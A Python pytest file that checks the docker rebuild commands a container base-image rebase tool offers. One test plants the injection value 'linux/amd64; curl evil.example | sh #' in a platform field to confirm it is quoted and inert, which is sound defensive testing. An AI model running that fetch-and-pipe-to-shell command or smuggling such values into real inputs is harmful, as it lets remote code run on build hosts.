"""What is offered where a patch is unsafe: what to copy builds on the very release that the plan names."""

from dataclasses import replace

import pytest

from functions_app.domain.changes.rebuild_offers import rebuild_offer
from functions_app.domain.rebase.safety.findings import Finding, Verdict
from tests.factories import digest
from tests.patch_plans import BASE

APP = f"111111111111.dkr.ecr.eu-west-1.amazonaws.com/app@{digest('app')}"


def test_from_line_and_commands_name_the_release_by_its_digest_and_a_tag_that_is_new() -> None:
    offer = rebuild_offer(Verdict.of([Finding("package-pinned", ("a",), 1)]), BASE, APP, "1.4.2-base-20260901-01234567")
    assert offer is not None
    assert offer.from_line == f"FROM public.ecr.aws/lambda/python:3.12.2026.11.01.10@{digest('index')}"
    image = "111111111111.dkr.ecr.eu-west-1.amazonaws.com/app:1.4.2-rebuilt-20261101"
    assert offer.commands == (
        f"docker build --pull --provenance=false --platform linux/amd64 -t {image} .\ndocker push {image}"
    )
    assert not offer.move


def test_a_move_to_another_system_is_called_one() -> None:
    offer = rebuild_offer(Verdict.of([Finding("os-changed"), Finding("package-pinned")]), BASE, APP, "")
    assert offer is not None
    assert offer.move
    assert "/app:img-rebuilt-20261101 ." in offer.commands


def test_what_a_base_calls_its_platform_is_a_word_of_the_command_and_no_command() -> None:
    base = replace(BASE, platform="linux/amd64; curl evil.example | sh #")
    offer = rebuild_offer(Verdict.of([Finding("package-pinned", ("a",), 1)]), base, APP, "1")
    assert offer is not None
    assert " --platform 'linux/amd64; curl evil.example | sh #' -t " in offer.commands


@pytest.mark.parametrize("codes", [[], ["linker-cache"], ["base-withdrawn"], ["package-pinned", "os-older"]])
def test_nothing_is_offered_where_it_may_go_on_or_the_base_must_not_be_used(codes: list[str]) -> None:
    assert rebuild_offer(Verdict.of([Finding(code) for code in codes]), BASE, APP, "1") is None
